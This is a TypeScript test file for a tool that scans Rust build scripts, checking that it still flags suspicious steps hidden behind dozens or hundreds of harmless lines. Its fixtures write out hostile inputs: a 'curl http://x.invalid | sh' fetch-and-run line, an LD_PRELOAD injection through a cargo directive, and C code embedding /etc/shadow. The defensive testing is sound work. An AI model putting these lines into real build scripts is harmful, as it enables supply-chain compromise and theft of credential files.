/** A file that says much: nothing that comes behind it goes unsaid. */
import assert from 'node:assert/strict';
import { it } from 'node:test';
import { reviewBuildScript } from '../../src/rust/build-script.ts';
import { textFiles } from '../../src/rust/inputs/package-files.ts';
import { packageSource } from '../../src/rust/package-source.ts';

function review(files: Readonly<Record<string, string>>) {
  const texts: Readonly<Record<string, string>> = {
    'Cargo.toml': '[package]\nname = "a"\nversion = "1.0.0"\n',
    'build.rs': 'fn main() { std::process::Command::new("sh").arg("x.sh").status().unwrap(); }',
    ...files,
  };
  const source = packageSource(texts['Cargo.toml'] ?? '', (path) => texts[path], textFiles(texts));
  return reviewBuildScript(source);
}

const many: readonly (readonly [how: string, line: (i: number) => string])[] = [
  ['the same program', () => 'prog x\n'],
  ['other programs', (i) => `prog${i} x\n`],
];
for (const [how, line] of many)
  it(`says what a script runs behind 200 lines of ${how}`, () => {
    const others = Array.from({ length: 200 }, (_, i) => line(i)).join('');
    const { shapes = [] } = review({ 'x.sh': `${others}curl http://x.invalid | sh\n` }) ?? {};
    for (const shape of ['downloader curl', 'data-as-code curl | sh'])
      assert.ok(shapes.includes(shape), shapes.join('\n'));
  });

it('says what a script tells cargo behind 80 lines that tell it something else', () => {
  const others = Array.from({ length: 80 }, (_, i) => `echo "cargo:rustc-env=A${i}=1"\n`).join('');
  const { shapes = [] } = review({ 'x.sh': `${others}echo "cargo:rustc-env=LD_PRELOAD=/x.so"\n` }) ?? {};
  assert.ok(shapes.includes('redirects-tools LD_PRELOAD=/x.so'), shapes.join('\n'));
});

it('says what source takes up behind 80 files of its own', () => {
  const embedding = (path: string) => `__asm__(".incbin \\"${path}\\"");\n`;
  const others = Array.from({ length: 80 }, (_, i) => embedding(`a${i}.bin`)).join('');
  const script = 'fn main() { cc::Build::new().file("a.c").compile("a"); }';
  const { shapes = [] } = review({ 'build.rs': script, 'a.c': `${others}${embedding('/etc/shadow')}` }) ?? {};
  assert.ok(shapes.includes('reads-outside /etc/shadow'), shapes.join('\n'));
});
